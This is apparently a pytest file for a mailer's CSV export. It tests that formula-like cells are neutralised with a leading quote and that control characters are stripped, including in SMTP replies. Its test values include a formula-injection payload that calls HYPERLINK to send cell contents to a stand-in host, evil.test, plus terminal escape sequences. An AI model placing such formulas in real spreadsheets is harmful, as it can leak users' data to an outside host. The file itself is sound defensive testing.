"""CSV written for spreadsheets: formulas neutralised in every export, control characters gone, mailer's own
exports read back unchanged."""

from __future__ import annotations

import asyncio
import csv
import io

import pytest

from mailer.capture import CaptureServer, Rule
from mailer.config import Config
from mailer.engine import SendOptions
from mailer.models import Subscriber
from mailer.send import send_issue
from mailer.smtp import relays
from mailer.spreadsheet import SpreadsheetWriter, read_cell, spreadsheet_cell
from mailer.store import Store
from tests.conftest import SAMPLE_ISSUE


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.test/?d="&A2,"Click")', '\'=HYPERLINK("http://evil.test/?d="&A2,"Click")'),
        ("+1 555 0100", "'+1 555 0100"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("王小明", "王小明"),
        ("a=b", "a=b"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("two\nlines", "two lines"),
        (250, 250),
        (None, ""),
    ],
)
def test_cells(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell
    if isinstance(value, str) and value.isprintable():
        assert read_cell(str(cell)) == value


def test_a_quote_a_person_typed_is_kept() -> None:
    assert read_cell("'tis the season") == "'tis the season"
    assert spreadsheet_cell("'=x") == "'=x" and read_cell("'=x") == "=x"  # the rare cost: one quote is lost


def test_the_writer_quotes_as_csv_does() -> None:
    buffer = io.StringIO()
    SpreadsheetWriter(buffer).writerow(["a,b", '=1,"2"', 3])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a,b", '\'=1,"2"', "3"]]


def test_log_csv_neutralises_smtp_replies(store: Store, config: Config, smtp_server: CaptureServer, run_cli) -> None:  # type: ignore[no-untyped-def]
    list_id = store.lists.get("bulletin").id
    store.subscribers.upsert(list_id, [Subscriber(email="a@example.net"), Subscriber(email="b@example.net")], "t")
    smtp_server.set_rule("a@example.net", Rule(stage="data", code=550, text='=HYPERLINK("http://evil.test","x")'))
    smtp_server.set_rule("b@example.net", Rule(stage="rcpt", code=550, text="\x1b[2Jno such user"))
    settings = relays(config.with_overrides(smtp_port=smtp_server.port))
    asyncio.run(send_issue(store, config, SAMPLE_ISSUE, "bulletin", SendOptions(), settings))
    result = run_cli("log", "1", "--csv")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert not rows["a@example.net"]["smtp_reply"].startswith(("=", "+", "-", "@")), rows
    assert "HYPERLINK" in rows["a@example.net"]["smtp_reply"] and "no such user" in rows["b@example.net"]["smtp_reply"]
